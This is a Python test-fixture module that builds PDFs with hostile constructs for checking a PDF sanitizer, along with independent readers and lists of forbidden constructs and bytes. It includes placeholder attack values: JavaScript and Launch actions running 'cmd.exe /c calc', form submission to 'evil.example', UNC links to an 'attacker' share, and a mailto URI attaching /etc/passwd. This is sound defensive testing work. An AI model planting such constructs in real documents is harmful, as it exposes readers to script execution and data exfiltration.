"""Build PDFs carrying hostile constructs with pikepdf, and read outputs back independently.

The readers here do not share code with ``sanitizers.pdf``: constructs are found by a
raw pikepdf walk of every object plus a byte search of a fully decompressed copy, and
text and page counts come from PDFium.
"""

from __future__ import annotations

import hashlib
import io
import re
import struct
import warnings
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pikepdf
import pypdfium2 as pdfium
from pikepdf import Array, Dictionary, Name, String
from pikepdf.exceptions import PageCopyWarning

Builder = Callable[[pikepdf.Pdf], None]

PAGE_TEXTS = ("First page of the notice", "Second page with the details")


# -- documents ------------------------------------------------------------------------


def new_document(texts: Sequence[str] = PAGE_TEXTS) -> pikepdf.Pdf:
    """A plain Helvetica text document, one line per page."""
    pdf = pikepdf.Pdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for text in texts:
        content = b"BT /F1 20 Tf 72 700 Td (%s) Tj ET" % text.encode("latin-1")
        page = Dictionary(
            Type=Name.Page,
            MediaBox=Array([0, 0, 595, 842]),
            Resources=Dictionary(Font=Dictionary(F1=font)),
            Contents=pdf.make_stream(content),
        )
        pdf.pages.append(pikepdf.Page(page))
    return pdf


def japanese_document(lines: Sequence[str], *, predefined_cmap: bool = False) -> pikepdf.Pdf:
    """Japanese text in a non-embedded CID font (HeiseiMin).

    By default the codes are mapped to Unicode by a ToUnicode CMap (what current tools
    write); with ``predefined_cmap`` only by the UniJIS-UCS2-H encoding, as older
    Japanese tools wrote them.
    """
    pdf = pikepdf.Pdf.new()
    codes = sorted({ord(c) for line in lines for c in line})
    mapping = (
        {"Encoding": Name("/UniJIS-UCS2-H")}
        if predefined_cmap
        else {"Encoding": Name("/Identity-H"), "ToUnicode": pdf.make_stream(_to_unicode_cmap(codes))}
    )
    font = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type0,
            BaseFont=Name("/HeiseiMin-W3"),
            **mapping,
            DescendantFonts=Array(
                [
                    Dictionary(
                        Type=Name.Font,
                        Subtype=Name.CIDFontType0,
                        BaseFont=Name("/HeiseiMin-W3"),
                        CIDSystemInfo=Dictionary(
                            Registry=String("Adobe"), Ordering=String("Japan1"), Supplement=2
                        ),
                        FontDescriptor=Dictionary(
                            Type=Name.FontDescriptor,
                            FontName=Name("/HeiseiMin-W3"),
                            Flags=6,
                            FontBBox=Array([0, -120, 1000, 880]),
                            ItalicAngle=0,
                            Ascent=880,
                            Descent=-120,
                            CapHeight=700,
                            StemV=80,
                        ),
                        DW=1000,
                    )
                ]
            ),
        )
    )
    shows = b" ".join(b"<%s> Tj 0 -30 Td" % "".join(f"{ord(c):04X}" for c in line).encode() for line in lines)
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 595, 842]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
        Contents=pdf.make_stream(b"BT /F1 20 Tf 72 700 Td " + shows + b" ET"),
    )
    pdf.pages.append(pikepdf.Page(page))
    return pdf


#: A real TrueType font of the system, for documents that embed one.
TRUETYPE_FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")


def woff2_wrapped(font: bytes) -> bytes:
    """``font`` behind a WOFF 2.0 header (W3C WOFF2, 5.1): the web-font wrapper, spelled as
    a file would start, its table data left as it was."""
    header = struct.pack(">4sIIHHIHHIII", b"wOF2", 0x00010000, 48 + len(font), 1, 0, len(font), 1, 0, 0, 0, 0)
    return header + bytes(4) + font


def embedded_font_document(
    program: bytes, text: str = "Embedded font text", key: str = "/FontFile2", subtype: str | None = None
) -> pikepdf.Pdf:
    """One page of WinAnsi text in a simple font whose program is ``program``, embedded
    under ``key`` (/FontFile2 TrueType, /FontFile Type 1, /FontFile3 with ``subtype``)."""
    pdf = pikepdf.Pdf.new()
    stream = pdf.make_stream(program)
    if key == "/FontFile2":
        stream.Length1 = len(program)
    if key == "/FontFile" and b"eexec\n" in program:  # cleartext, binary and trailer lengths
        clear = program.index(b"eexec\n") + 6
        trailer = program.rfind(b"\n" + b"0" * 64)
        stream.Length1, stream.Length2 = clear, max(trailer - clear, 0)
        stream.Length3 = len(program) - clear - stream.Length2
    if subtype is not None:
        stream.Subtype = Name(subtype)
    descriptor = pdf.make_indirect(
        Dictionary(
            Type=Name.FontDescriptor,
            FontName=Name("/ABCDEF+Embedded"),
            Flags=32,
            FontBBox=Array([-1021, -463, 1793, 1232]),
            ItalicAngle=0,
            Ascent=928,
            Descent=-236,
            CapHeight=729,
            StemV=80,
        )
    )
    descriptor[key] = stream
    font = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1 if key == "/FontFile" else Name.TrueType,
            BaseFont=Name("/ABCDEF+Embedded"),
            FirstChar=32,
            LastChar=126,
            Widths=Array([600] * 95),
            Encoding=Name.WinAnsiEncoding,
            FontDescriptor=descriptor,
        )
    )
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 595, 842]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
        Contents=pdf.make_stream(b"BT /F1 20 Tf 72 700 Td (%s) Tj ET" % text.encode("latin-1")),
    )
    pdf.pages.append(pikepdf.Page(page))
    return pdf


def font_programs(path: Path) -> list[bytes]:
    """The decoded font programs of every font descriptor of ``path``."""
    with pikepdf.open(path) as pdf:
        return [
            obj[key].read_bytes()
            for obj in pdf.objects
            if isinstance(obj, Dictionary)
            for key in ("/FontFile", "/FontFile2", "/FontFile3")
            if key in obj
        ]


def _to_unicode_cmap(codes: Sequence[int]) -> bytes:
    """Identity-H codes here are the Unicode values themselves."""
    mappings = "\n".join(f"<{c:04X}> <{c:04X}>" for c in codes)
    return (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        "/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        "1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        f"{len(codes)} beginbfchar\n{mappings}\nendbfchar\n"
        "endcmap CMapName currentdict /CMap defineresource pop end end\n"
    ).encode()


def save(pdf: pikepdf.Pdf, path: Path, **options: Any) -> Path:
    pdf.save(path, **options)
    return path


def build(path: Path, *builders: Builder, texts: Sequence[str] = PAGE_TEXTS) -> Path:
    """A plain document with each builder applied, saved with object streams."""
    pdf = new_document(texts)
    for builder in builders:
        builder(pdf)
    return save(pdf, path, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# -- constructs -----------------------------------------------------------------------


def js_action(script: str = "app.alert('pwned')") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(script))


def goto_action(pdf: pikepdf.Pdf, page_index: int = 1) -> Dictionary:
    return Dictionary(S=Name.GoTo, D=Array([pdf.pages[page_index].obj, Name.Fit]))


def uri_action(uri: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(uri))


def add_annotation(pdf: pikepdf.Pdf, annotation: Dictionary, page_index: int = 0) -> pikepdf.Object:
    annotation.Type = Name.Annot
    if "/Rect" not in annotation:
        annotation.Rect = Array([72, 600, 300, 640])
    indirect = pdf.make_indirect(annotation)
    page = pdf.pages[page_index].obj
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(indirect)
    return indirect


def add_link(pdf: pikepdf.Pdf, action: Dictionary, page_index: int = 0) -> pikepdf.Object:
    return add_annotation(pdf, Dictionary(Subtype=Name.Link, A=pdf.make_indirect(action)), page_index)


def action_link(kind: str, **entries: Any) -> Builder:
    """A link annotation whose action is of type ``kind``."""

    def builder(pdf: pikepdf.Pdf) -> None:
        add_link(pdf, Dictionary(S=Name(kind), **entries))

    return builder


def open_action_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(js_action())


def open_action_launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")), F=String("calc.exe")
    )


def catalog_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=js_action(), WS=js_action(), DP=js_action())


def page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[1].obj.AA = Dictionary(O=js_action("page open"), C=js_action("page close"))


def annotation_aa(pdf: pikepdf.Pdf) -> None:
    add_annotation(pdf, Dictionary(Subtype=Name.Square, AA=Dictionary(E=js_action("mouse enter"))))


def names_javascript(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(js_action()), String("b"), js_action()]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def next_chain_js(pdf: pikepdf.Pdf) -> None:
    """A harmless GoTo link whose /Next chain runs JavaScript, and loops back on itself."""
    first = pdf.make_indirect(goto_action(pdf))
    second = pdf.make_indirect(js_action("chained"))
    first.Next = Array([second])
    second.Next = first
    add_annotation(pdf, Dictionary(Subtype=Name.Link, A=first))


def outline_js(pdf: pikepdf.Pdf) -> None:
    """Two outline items, one GoTo (kept) and one JavaScript, in a sibling loop."""
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    good = pdf.make_indirect(Dictionary(Title=String("Details"), Parent=outlines, A=goto_action(pdf)))
    bad = pdf.make_indirect(Dictionary(Title=String("Run"), Parent=outlines, A=js_action("outline")))
    good.Next, bad.Prev = bad, good
    bad.Next = good  # a cycle: readers must not loop, nor may we
    outlines.First, outlines.Last = good, bad
    pdf.Root.Outlines = outlines


def form_with_js_and_xfa(pdf: pikepdf.Pdf) -> None:
    """An AcroForm text field with an appearance, a keystroke script, a submit button, and XFA."""
    appearance = pdf.make_stream(
        b"/Tx BMC BT /F1 12 Tf 2 6 Td (Taro Yamada) Tj ET EMC",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 200, 20]),
        Resources=Dictionary(Font=pdf.pages[0].obj.Resources.Font),
    )
    field = add_annotation(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("applicant"),
            V=String("Taro Yamada"),
            Rect=Array([72, 500, 272, 520]),
            AP=Dictionary(N=appearance),
            AA=Dictionary(K=js_action("keystroke"), F=js_action("format")),
        ),
    )
    button = add_annotation(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([72, 450, 172, 470]),
            A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/collect")),
        ),
    )
    xfa = pdf.make_stream(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=xfa)
    pdf.Root.NeedsRendering = True


def embedded_file_names(pdf: pikepdf.Pdf) -> None:
    payload = pdf.make_stream(b"MZ\x90\x00 not really an executable", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    payload = pdf.make_stream(b"attached payload", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.docm"), EF=Dictionary(F=payload))
    attachment = add_annotation(pdf, Dictionary(Subtype=Name.FileAttachment, FS=spec))
    # A popup still points at the removed annotation: the payload must not ride along.
    add_annotation(pdf, Dictionary(Subtype=Name.Popup, Parent=attachment))


def multimedia_annotations(pdf: pikepdf.Pdf) -> None:
    for subtype in ("/RichMedia", "/3D", "/Movie", "/Sound", "/Screen"):
        add_annotation(pdf, Dictionary(Subtype=Name(subtype)))


def web_capture(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        IDS=Dictionary(Names=Array([String("id"), Dictionary(URL=String("http://x"))])),
        URLS=Dictionary(Names=Array([String("http://x"), Dictionary()])),
    )
    pdf.Root.SpiderInfo = Dictionary(V=1.0)


def piece_info(pdf: pikepdf.Pdf) -> None:
    private = Dictionary(Illustrator=Dictionary(Private=String("app data"), LastModified=String("D:2024")))
    pdf.Root.PieceInfo = private
    pdf.pages[0].obj.PieceInfo = private


def metadata(pdf: pikepdf.Pdf) -> None:
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["Secret Author"]
    pdf.docinfo["/Author"] = "Secret Author"
    pdf.docinfo["/Custom"] = "internal note"


def external_stream(pdf: pikepdf.Pdf) -> None:
    """Stream data fetched from a network share when the reader decodes it."""
    stream = pdf.make_stream(b"", F=String("\\\\attacker\\share\\data.bin"))
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=stream)


def web_links(pdf: pikepdf.Pdf) -> None:
    for uri in (
        "https://www.city.example.lg.jp/",
        "http://example.org/a b",
        "mailto:soumu@city.example.lg.jp",
    ):
        add_link(pdf, uri_action(uri))


BAD_URIS = (
    "file:///C:/Windows/System32/calc.exe",
    "\\\\attacker\\share\\payload.exe",
    "javascript:app.alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "smb://attacker/share",
    "  https://leading-space.example/",
    "mailto:a@example.org?attach=/etc/passwd",
)


def bad_links(pdf: pikepdf.Pdf) -> None:
    for uri in BAD_URIS:
        add_link(pdf, uri_action(uri))


def internal_link(pdf: pikepdf.Pdf) -> None:
    add_link(pdf, goto_action(pdf))


#: Construct → (builder, finding construct the rebuild must report).
HOSTILE: dict[str, tuple[Builder, str]] = {
    "open_action_js": (open_action_js, "pdf.open_action"),
    "open_action_launch": (open_action_launch, "pdf.launch"),
    "catalog_aa": (catalog_aa, "pdf.additional_actions"),
    "page_aa": (page_aa, "pdf.additional_actions"),
    "annotation_aa": (annotation_aa, "pdf.additional_actions"),
    "names_javascript": (names_javascript, "pdf.javascript"),
    "next_chain_js": (next_chain_js, "pdf.javascript"),
    "outline_js": (outline_js, "pdf.javascript"),
    "form_js_xfa": (form_with_js_and_xfa, "pdf.xfa"),
    "embedded_files": (embedded_file_names, "pdf.embedded_file"),
    "file_attachment": (file_attachment_annotation, "pdf.embedded_file"),
    "multimedia": (multimedia_annotations, "pdf.rich_media"),
    "web_capture": (web_capture, "pdf.web_capture"),
    "piece_info": (piece_info, "pdf.piece_info"),
    "metadata": (metadata, "pdf.metadata"),
    "external_stream": (external_stream, "pdf.external_stream"),
    "bad_links": (bad_links, "pdf.uri"),
    "launch": (action_link("/Launch", F=String("calc.exe")), "pdf.launch"),
    "gotor": (
        action_link("/GoToR", F=String("\\\\host\\share\\x.pdf"), D=Array([0, Name.Fit])),
        "pdf.remote_goto",
    ),
    "gotoe": (action_link("/GoToE", T=Dictionary(R=Name.C, N=String("x"))), "pdf.embedded_goto"),
    "import_data": (action_link("/ImportData", F=String("data.fdf")), "pdf.import_data"),
    "submit_form": (action_link("/SubmitForm", F=String("http://evil.example/")), "pdf.submit_form"),
    "reset_form": (action_link("/ResetForm"), "pdf.reset_form"),
    "rendition": (action_link("/Rendition", OP=0), "pdf.rendition"),
    "sound": (action_link("/Sound"), "pdf.sound"),
    "movie": (action_link("/Movie"), "pdf.movie"),
    "rich_media_execute": (action_link("/RichMediaExecute"), "pdf.rich_media"),
    "hide": (action_link("/Hide", T=String("field")), "pdf.hide"),
    "trans": (action_link("/Trans"), "pdf.transition_action"),
    "unknown_action": (action_link("/FutureAction"), "pdf.action"),
    "named_menu": (action_link("/Named", N=Name("/SaveAs")), "pdf.named_action"),
}


# -- byte-level tricks ----------------------------------------------------------------


def plain_bytes(pdf: pikepdf.Pdf) -> bytes:
    """An uncompressed, object-stream-free serialisation (names appear literally)."""
    buffer = io.BytesIO()
    pdf.save(
        buffer,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
    )
    return buffer.getvalue()


def append_incremental_update(base: bytes, page_object: int, new_content: bytes) -> bytes:
    """Append an incremental update that replaces one page's content stream."""
    previous_xref = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    size = int(re.findall(rb"/Size (\d+)", base)[-1])
    page = re.search(rb"\n%d 0 obj\n(.*?)endobj" % page_object, base, re.S)
    assert page is not None
    new_page = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % size, page.group(1))
    offset_page = len(base) + 1
    body = b"\n%d 0 obj\n%sendobj\n" % (page_object, new_page)
    offset_content = len(base) + len(body)
    body += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        size,
        len(new_content) + 1,
        new_content,
    )
    xref_offset = len(base) + len(body)
    root = re.findall(rb"/Root (\d+ 0 R)", base)[-1]
    xref = (
        b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n"
        b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    ) % (page_object, offset_page, size, offset_content, size + 1, root, previous_xref, xref_offset)
    return base + body + xref


# -- independent readers --------------------------------------------------------------


def pdfium_texts(path: Path) -> list[str]:
    document = pdfium.PdfDocument(path)
    try:
        texts = []
        for index in range(len(document)):
            page = document[index]
            text_page = page.get_textpage()
            texts.append(text_page.get_text_range())
            text_page.close()
            page.close()
        return texts
    finally:
        document.close()


def pdfium_page_sizes(path: Path) -> list[tuple[float, float]]:
    document = pdfium.PdfDocument(path)
    try:
        return [tuple(document[i].get_size()) for i in range(len(document))]
    finally:
        document.close()


def all_values(pdf: pikepdf.Pdf) -> Iterator[tuple[str, object]]:
    """(key, value) for every dictionary entry of every object, nested values included."""
    pending: list[object] = [pdf.trailer, *pdf.objects]
    seen: set[tuple[int, int]] = set()
    while pending:
        item = pending.pop()
        if not isinstance(item, pikepdf.Object):
            continue
        if item.is_indirect:
            if item.objgen in seen:
                continue
            seen.add(item.objgen)
        if isinstance(item, pikepdf.Array):
            pending.extend(item)
        elif isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
            for key, value in item.items():
                yield key, value
                pending.append(value)


def constructs_in(path: Path) -> set[str]:
    """Every key, /S action type, /Subtype and /Type name found anywhere in the file."""
    found: set[str] = set()
    with pikepdf.open(path) as pdf:
        if pdf.is_encrypted:
            found.add("/Encrypt")
        for key, value in all_values(pdf):
            found.add(key)
            if key in ("/S", "/Subtype", "/Type") and isinstance(value, pikepdf.Name):
                found.add(f"{key}{value}")
    return found


def uris_in(path: Path) -> set[str]:
    with pikepdf.open(path) as pdf:
        return {
            str(value)
            for key, value in all_values(pdf)
            if key == "/URI" and isinstance(value, pikepdf.String)
        }


def decompressed_bytes(path: Path) -> bytes:
    """The whole file re-serialised with every stream decoded and no object streams."""
    with pikepdf.open(path) as pdf, warnings.catch_warnings():
        warnings.simplefilter("ignore", PageCopyWarning)  # widgets outside /AcroForm: not our concern
        buffer = io.BytesIO()
        pdf.save(
            buffer,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            qdf=True,
        )
        return buffer.getvalue()


#: What no rebuilt file may contain, as found by ``constructs_in``.
FORBIDDEN_CONSTRUCTS = frozenset(
    {
        "/JS",
        "/JavaScript",
        "/S/JavaScript",
        "/AA",
        "/EmbeddedFiles",
        "/EF",
        "/Type/EmbeddedFile",
        "/XFA",
        "/IDS",
        "/URLS",
        "/SpiderInfo",
        "/PieceInfo",
        "/Encrypt",
        "/S/Launch",
        "/S/GoToR",
        "/S/GoToE",
        "/S/ImportData",
        "/S/SubmitForm",
        "/S/ResetForm",
        "/S/Rendition",
        "/S/Sound",
        "/S/Movie",
        "/S/RichMediaExecute",
        "/S/Hide",
        "/S/Trans",
        "/S/FutureAction",
        "/Subtype/FileAttachment",
        "/Subtype/RichMedia",
        "/Subtype/3D",
        "/Subtype/Movie",
        "/Subtype/Sound",
        "/Subtype/Screen",
    }
)

#: Byte strings that must not appear in the decompressed output of a rebuild.
FORBIDDEN_BYTES = (
    b"/JavaScript",
    b"/JS ",
    b"/JS(",
    b"/AA",
    b"/Launch",
    b"/EmbeddedFile",
    b"/XFA",
    b"app.alert",
    b"calc.exe",
    b"not really an executable",
    b"attached payload",
)


# -- encryption qpdf cannot write -----------------------------------------------------

_PASSWORD_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
_DOCUMENT_ID = b"0123456789abcdef"


def _rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def rc4_encrypted(pdf: pikepdf.Pdf, bits: int, revision: int) -> bytes:
    """The document encrypted with RC4 under the empty user password, with any key length
    (qpdf writes only 40 and 128 bits), following ISO 32000-1 algorithms 2, 3, 4 and 5."""
    length = bits // 8
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    plain = re.sub(rb"/ID \[<[0-9a-f]+><[0-9a-f]+>\]", b"", buffer.getvalue())
    assert b"(" not in plain.split(b"stream", 1)[0], "strings outside streams are not encrypted here"

    def stretched(digest: bytes) -> bytes:
        for _ in range(50 if revision >= 3 else 0):
            digest = hashlib.md5(digest[:length]).digest()
        return digest[:length]

    owner_key = stretched(hashlib.md5(b"owner" + _PASSWORD_PAD[:27]).digest())
    owner = _rc4(owner_key, _PASSWORD_PAD)
    for step in range(1, 20 if revision >= 3 else 1):
        owner = _rc4(bytes(k ^ step for k in owner_key), owner)
    permissions = -4
    key = stretched(
        hashlib.md5(
            _PASSWORD_PAD + owner + permissions.to_bytes(4, "little", signed=True) + _DOCUMENT_ID
        ).digest()
    )
    if revision == 2:
        user = _rc4(key, _PASSWORD_PAD)
    else:
        user = _rc4(key, hashlib.md5(_PASSWORD_PAD + _DOCUMENT_ID).digest())
        for step in range(1, 20):
            user = _rc4(bytes(k ^ step for k in key), user)
        user += bytes(16)

    def encrypt_stream(match: re.Match[bytes]) -> bytes:
        number, size = int(match.group(1)), int(match.group(2))
        object_key = hashlib.md5(key + number.to_bytes(3, "little") + b"\0\0").digest()[: min(length + 5, 16)]
        start = match.end()
        return match.group() + _rc4(object_key, plain[start : start + size])

    pieces = []
    position = 0
    for match in re.finditer(rb"\n(\d+) 0 obj\n<< /Length (\d+) >>\nstream\n", plain):
        pieces.append(plain[position : match.start()])
        pieces.append(encrypt_stream(match))
        position = match.end() + int(match.group(2))
    pieces.append(plain[position:])
    encrypt = (
        b"/Encrypt << /Filter /Standard /V %d /R %d /Length %d /O <%s> /U <%s> /P %d >> /ID [<%s> <%s>] "
        % (
            1 if revision == 2 else 2,
            revision,
            bits,
            owner.hex().encode(),
            user.hex().encode(),
            permissions,
            _DOCUMENT_ID.hex().encode(),
            _DOCUMENT_ID.hex().encode(),
        )
    )
    return b"".join(pieces).replace(b"trailer << ", b"trailer << " + encrypt, 1)


def _type1_encrypt(plain: bytes, key: int) -> bytes:
    out = bytearray()
    for byte in plain:
        cipher = byte ^ (key >> 8)
        out.append(cipher)
        key = ((cipher + key) * 52845 + 22719) & 0xFFFF
    return bytes(out)


def _type1_charstring(*tokens: int | str) -> bytes:
    """Type 1 charstring of numbers and operator names, encrypted with lenIV 4."""
    operators = {"hsbw": b"\x0d", "rmoveto": b"\x15", "rlineto": b"\x05", "closepath": b"\x09",
                 "endchar": b"\x0e", "callsubr": b"\x0a", "return": b"\x0b", "rrcurveto": b"\x08",
                 "seac": b"\x0c\x06", "hstem": b"\x01"}  # fmt: skip
    plain = b""
    for token in tokens:
        if isinstance(token, str):
            plain += operators[token]
        elif -107 <= token <= 107:
            plain += bytes([token + 139])
        else:
            plain += b"\xff" + token.to_bytes(4, "big", signed=True)
    return _type1_encrypt(b"\0\0\0\0" + plain, 4330)


def type1_program(cleartext_extra: bytes = b"", appended: bytes = b"") -> bytes:
    """A Type 1 font (PostScript) drawing a square as "A", an "A" over an "A" (seac) as
    "B", and a triangle through a subroutine as "C"; the encoding names them by code."""
    subr = _type1_charstring(300, 500, "rlineto", "return")
    glyphs = {
        ".notdef": _type1_charstring(0, 500, "hsbw", "endchar"),
        "A": _type1_charstring(
            50,
            600,
            "hsbw",
            0,
            100,
            400,
            "hstem",
            0,
            0,
            "rmoveto",
            500,
            0,
            "rlineto",
            0,
            500,
            "rlineto",
            -500,
            0,
            "rlineto",
            "closepath",
            "endchar",
        ),
        "B": _type1_charstring(50, 600, "hsbw", 50, 0, 200, 65, 65, "seac"),
        "C": _type1_charstring(
            20, 700, "hsbw", 0, 0, "rmoveto", 0, "callsubr", 300, -500, "rlineto", "closepath", "endchar"
        ),
    }
    clear = (
        b"%!PS-AdobeFont-1.0: Embedded 001.000\n11 dict begin\n/FontName /Embedded def\n"
        b"/FontType 1 def\n/FontMatrix [0.001 0 0 0.001 0 0] readonly def\n"
        b"/FontBBox {0 0 700 1200} readonly def\n/PaintType 0 def\n"
        b"/Encoding 256 array\n0 1 255 {1 index exch /.notdef put} for\n"
        b"dup 65 /A put\ndup 66 /B put\ndup 67 /C put\nreadonly def\n"
        + cleartext_extra
        + b"currentdict end\ncurrentfile eexec\n"
    )
    private = (
        b"dup /Private 8 dict dup begin\n/RD{string currentfile exch readstring pop}executeonly def\n"
        b"/ND{noaccess def}executeonly def\n/NP{noaccess put}executeonly def\n/lenIV 4 def\n"
        b"/Subrs 1 array\ndup 0 %d RD %s NP\n"
        % (len(subr), subr)
        + b"end\n2 index /CharStrings %d dict dup begin\n" % len(glyphs)
        + b"".join(b"/%s %d RD %s ND\n" % (n.encode(), len(c), c) for n, c in glyphs.items())
        + b"end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\n"
        b"mark currentfile closefile\n"
    )
    trailer = b"\n" + b"0" * 512 + b"\ncleartomark\n"
    return clear + _type1_encrypt(b"\0\0\0\0" + private, 55665) + trailer + appended
